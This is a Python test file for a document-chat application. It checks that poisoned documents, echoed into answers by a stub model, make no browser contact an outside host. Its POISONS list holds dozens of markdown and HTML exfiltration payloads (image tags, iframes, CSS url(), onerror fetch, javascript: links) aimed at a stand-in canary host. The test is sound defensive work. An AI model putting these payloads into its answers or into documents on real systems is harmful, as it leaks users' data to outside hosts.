"""Documents and answers that want the reader's browser to call somebody: it calls nobody (a real Chromium)."""

from __future__ import annotations

import re
import threading
from collections.abc import AsyncIterator, Iterator
from contextlib import contextmanager
from dataclasses import dataclass, field
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from uuid import UUID

import pytest
from markdown_it import MarkdownIt
from playwright.sync_api import Browser, BrowserContext, Page, expect, sync_playwright
from tests.journeys.served import Served, serve
from tests.journeys.test_browser import CHROMIUM, DESK, QUIET, pytestmark
from tests.make import make_project, make_tenant

from pharos.chat.answer import answer_question, gather_answer
from pharos.identity.current import COOKIE
from pharos.identity.principal import Principal
from pharos.identity.sign_in import Origin, open_session
from pharos.infra.database_roles import DatabaseUrls
from pharos.infra.embedded_postgres import free_port
from pharos.infra.ids import ConversationId, ProjectId
from pharos.library.texts import NamedText, index_texts
from pharos.providers.contract import ChatRequest

__all__ = ["pytestmark"]

DOCUMENTS_AN_ANSWER = 15
CANARY_HOST = "canary.example"
ADDRESSES = ("http://{at}/{n}", "//{at}/{n}", "HTTP:\\\\{at}\\{n}?q=secret")
POISONS = (
    "![a lamp]({u})",
    '![a lamp]({u} "its title")',
    "![a lamp][lamp{n}]\n\n[lamp{n}]: {u}",
    "[![a lamp]({u})]({u})",
    "![a lamp](<{u}>)",
    "[read on]({u})",
    "<{u}>",
    "| a | b |\n| - | - |\n| ![x]({u}) | c |",
    "# ![x]({u})",
    "> - ![x]({u})",
    "```\n![x]({u})\n```\n![x]({u})",
    '<img src="{u}">',
    '<img srcset="{u} 1x, {u} 2x">',
    '<IMG/SRC="{u}"/>',
    "&lt;img src='{u}'&gt;",
    "<picture><source srcset='{u}'><img></picture>",
    "<video poster='{u}' src='{u}' autoplay></video>",
    "<audio src='{u}' autoplay preload=auto></audio>",
    "<iframe src='{u}'></iframe>",
    "<iframe srcdoc=\"<img src='{u}'>\"></iframe>",
    "<object data='{u}'></object>",
    "<embed src='{u}'>",
    "<svg><image href='{u}' xlink:href='{u}'/></svg>",
    "<svg><use href='{u}#a'/></svg>",
    "<svg><style>* {{ background: url({u}) }}</style></svg>",
    "<link rel=stylesheet href='{u}'>",
    "<link rel='prefetch prerender' href='{u}'>",
    "<link rel='preconnect dns-prefetch' href='{u}'>",
    "<meta http-equiv=refresh content='0; url={u}'>",
    "<style>@import '{u}'; body {{ background: url({u}) }}</style>",
    "<p style=\"background-image: url('{u}')\">x</p>",
    "<table background='{u}'><tr><td>x</td></tr></table>",
    "<script src='{u}'></script>",
    '<script type=speculationrules>{{"prefetch": [{{"urls": ["{u}"]}}]}}</script>',
    "<img src=x onerror=\"fetch('{u}')\">",
    "<input type=image src='{u}' autofocus onfocus=\"fetch('{u}')\">",
    "<form action='{u}'><button autofocus>x</button></form>",
    "<base href='{u}'><img src='x.png'>",
    "<a ping='{u}' href='{u}'>x</a>",
    "<noscript><p title=\"</noscript><img src='{u}'>\">",
    "<math><mtext></p><style><img src='{u}'></style></mtext></math>",
    "![x](data:image/svg+xml,%3Csvg%20xmlns='http://www.w3.org/2000/svg'%3E%3Cimage%20href='{u}'/%3E%3C/svg%3E)",
    "<img src=\"data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg'><image href='{u}'/></svg>\">",
    "[x](data:text/html,<img%20src='{u}'>)",
    "[x](javascript:fetch('{u}'))",
)


@dataclass
class Canary:
    """Who connected, and what they asked for."""

    port: int = 0
    connections: int = 0
    paths: list[str] = field(default_factory=list)
    sang: threading.Event = field(default_factory=threading.Event)


@contextmanager
def listening() -> Iterator[Canary]:
    canary = Canary()

    class Handler(BaseHTTPRequestHandler):
        def setup(self) -> None:
            super().setup()
            canary.connections += 1

        def do_GET(self) -> None:
            canary.paths.append(self.path)
            canary.sang.set()
            self.send_error(404)

        def log_message(self, *_: object) -> None:
            """Nothing on the test's terminal."""

    with ThreadingHTTPServer(("127.0.0.1", 0), Handler) as server:
        canary.port = server.server_port
        threading.Thread(target=server.serve_forever, daemon=True).start()
        yield canary
        server.shutdown()


class Parrot:
    """Repeats the next few documents and what it is given: a model that documents have talked over."""

    name = "parrot"

    def __init__(self) -> None:
        self.documents: list[NamedText] = []

    async def stream(self, request: ChatRequest) -> AsyncIterator[str]:
        given = "\n".join(message.content for message in request.messages)
        repeated, self.documents = self.documents[:DOCUMENTS_AN_ANSWER], self.documents[DOCUMENTS_AN_ANSWER:]
        for document in repeated:
            yield f"Lamp [1].\n\n{document.text}\n\n{document.name}\n\n"
        for number, name, passage in re.findall(r"passage \[(\d+)\] from (.*?)\n(.*?)\n--- ", given, re.DOTALL):
            yield f"Lamp [{number}].\n\n{passage}\n\n{name}\n\n"

    async def list_models(self) -> list[str]:
        return [self.name]

    async def close(self) -> None:
        """Nothing is open."""


PARROT = Parrot()


@pytest.fixture(scope="module")
def served(database_urls: DatabaseUrls, tmp_path_factory: pytest.TempPathFactory) -> Iterator[Served]:
    with serve(database_urls, tmp_path_factory.mktemp("served"), free_port(), model=PARROT) as running:
        yield running


@pytest.fixture(scope="module")
def browser() -> Iterator[Browser]:
    """In which the canary's name leads to this machine."""
    with sync_playwright() as playwright:
        rules = f"--host-resolver-rules=MAP {CANARY_HOST} 127.0.0.1"
        chromium = playwright.chromium.launch(executable_path=CHROMIUM, args=[*QUIET, rules])
        yield chromium
        chromium.close()


def poisoned(canary: Canary) -> list[NamedText]:
    """A document a poison, with the poison in its name as well."""
    made: list[NamedText] = []
    for poison in POISONS:
        for address in ADDRESSES:
            n = len(made)
            url = address.format(at=f"{CANARY_HOST}:{canary.port}", n=n)
            text = poison.format(u=url, n=n)
            name = re.sub(r"\s+", " ", f"{n} {text}")[:200]
            made.append(
                NamedText(
                    name,
                    f"The lamps shine over the pier at night, says the keeper of lamp{n}.\n\n{text}\n\nEnd of lamp{n}.",
                )
            )
    return made


async def fill(served: Served, owner: Principal, documents: list[NamedText]) -> tuple[ProjectId, ConversationId, int]:
    """A project of them, and one conversation that asks for each of them in so many questions."""
    runtime = served.runtime
    project_id = await make_project(runtime.db, owner, name="Lamps <img src=x>")
    await index_texts(runtime, owner.tenant_id, project_id, documents)
    PARROT.documents = list(documents)
    conversation: ConversationId | None = None
    said: set[int] = set()
    asked = 0
    for first in range(0, len(documents), DOCUMENTS_AN_ANSWER):
        numbers = range(first, min(first + DOCUMENTS_AN_ANSWER, len(documents)))
        question = f"Do the lamps shine over the pier at night, as the keeper of lamp{numbers[0]} says?"
        events = answer_question(runtime, owner, project_id=project_id, question=question, conversation_id=conversation)
        answer = await gather_answer(events)
        conversation = ConversationId(UUID(answer.conversation_id))
        said.update(map(int, re.findall(r"End of lamp(\d+)", answer.answer)))
        asked += 1
    assert conversation is not None
    assert len(said) == len(documents), f"every poison stands in an answer: {answer}"
    return project_id, conversation, asked


def look_at_everything(
    page: Page, origin: str, project_id: ProjectId, conversation: ConversationId, number: int
) -> None:
    page.goto(f"{origin}/projects/{project_id}?conversation={conversation}")
    expect(page.locator("[data-answer]")).to_have_count(number)
    page.evaluate("document.querySelectorAll('details').forEach(each => { each.open = true })")
    leads = [page.locator("a.citation").nth(n).get_attribute("href") for n in (0, number)]
    page.get_by_label("Your question").fill("Do the lamps shine over the pier at night, as the keeper of lamp5 says?")
    page.keyboard.press("Enter")
    expect(page.locator("[data-answer]")).to_have_count(number + 1)
    expect(page.get_by_role("button", name="Ask", exact=True)).to_be_visible()
    expect(page.locator("[data-answer]").last).to_contain_text("End of lamp")
    page.wait_for_load_state("networkidle")
    for path in leads:
        page.goto(f"{origin}{path}")
        page.wait_for_load_state("networkidle")


def test_a_hundred_poisoned_documents_make_no_browser_call_anybody(served: Served, browser: Browser) -> None:
    with listening() as canary:
        documents = poisoned(canary)
        assert len(documents) >= 100
        tenant = served.run(make_tenant(served.runtime.db))
        project_id, conversation, number = served.run(fill(served, tenant.admin, documents))
        asked: list[str] = []
        window = open_window(served, browser, tenant.admin, bypass_csp=True)
        page = window.new_page()
        page.on("request", lambda request: asked.append(request.url))
        look_at_everything(page, served.origin, project_id, conversation, number)
        assert [url for url in asked if not url.startswith(served.origin)] == []
        assert (canary.connections, canary.paths) == (0, [])
        image = f"![a lamp](http://{CANARY_HOST}:{canary.port}/control)"
        control = MarkdownIt("js-default", {"html": False}).render(image)
        show = "html => { document.querySelector('main').insertAdjacentHTML('beforeend', html) }"
        page.evaluate(show, control)
        assert canary.sang.wait(10), "without the rule for images the browser calls"
        assert canary.paths == ["/control"]
        window.close()
        guarded = open_window(served, browser, tenant.admin, bypass_csp=False)
        page = guarded.new_page()
        page.goto(f"{served.origin}/projects/{project_id}?conversation={conversation}")
        with page.expect_console_message(lambda said: "Content Security Policy" in said.text):
            page.evaluate(show, control)
        assert canary.paths == ["/control"], "the page's policy would have held it back too"
        guarded.close()


def open_window(served: Served, browser: Browser, person: Principal, *, bypass_csp: bool) -> BrowserContext:
    """Without the page's policy, which is the second net, what is seen is what the renderer alone lets through."""
    issued = served.run(open_session(served.runtime, person, origin=Origin(ip="203.0.113.7", agent="")))
    window = browser.new_context(viewport=DESK, locale="en-GB", bypass_csp=bypass_csp)
    window.add_cookies([{"name": COOKIE, "value": issued.session_token, "url": served.origin}])
    return window
